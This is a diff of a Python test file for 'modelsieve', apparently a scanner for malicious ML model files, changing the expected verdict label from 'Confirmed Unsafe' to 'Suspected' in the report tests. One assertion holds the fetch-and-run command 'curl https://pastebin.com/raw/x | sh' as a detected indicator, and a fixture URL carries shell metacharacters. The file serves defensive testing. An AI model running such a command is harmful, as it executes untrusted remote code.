@@ -172,7 +172,7 @@ def test_html_is_self_contained_and_readable(repo_report: Report) -> None:
     assert page.startswith("<!DOCTYPE html>")
     assert not re.search(r"<(link|script|img|iframe)\b", page, re.I)
     assert "src=" not in page and "@import" not in page and "url(" not in page
-    assert "Overall: Malicious" in page and "Confirmed Unsafe" in page
+    assert "Overall: Malicious" in page and "Suspected" in page
     for needle in ("pytorch_model.bin", "training_args.bin", "runs shell command", "https://example.org/model-card"):
         assert needle in page
     assert "PKL001" in page and "Known False Positive" in page
@@ -182,7 +182,7 @@ def test_html_is_self_contained_and_readable(repo_report: Report) -> None:
 def test_text_report_summary_lists_indicators_and_unloaded(repo_report: Report) -> None:
     out = text.render(repo_report)
     summary = out[out.index("Overall:") :]
-    assert "MALICIOUS" in summary and "Confirmed Unsafe" in summary
+    assert "MALICIOUS" in summary and "Suspected" in summary
     assert "https://example.org/model-card" in summary  # INFO-level indicator still listed
     assert "curl https://pastebin.com/raw/x | sh" in summary
     assert "not read by standard loading" in summary and "training_args.bin" in summary
@@ -196,7 +196,7 @@ def test_sarif_keeps_remote_uris() -> None:
 
 def test_markdown_report(repo_report: Report, tmp_path: Path, write_fake: Writer) -> None:
     md = markdown.render(repo_report)
-    assert md.startswith("## modelsieve: 🛑 malicious (Confirmed Unsafe)")
+    assert md.startswith("## modelsieve: 🛑 malicious (Suspected)")
     assert "`https://example.org/model-card`" in md and "### What loading would do" in md
     assert "training_args.bin" in md and "not read by standard loading" in md
     hostile = dict(RCE, indicators=[["url", "https://x.example/a|b`c"]])
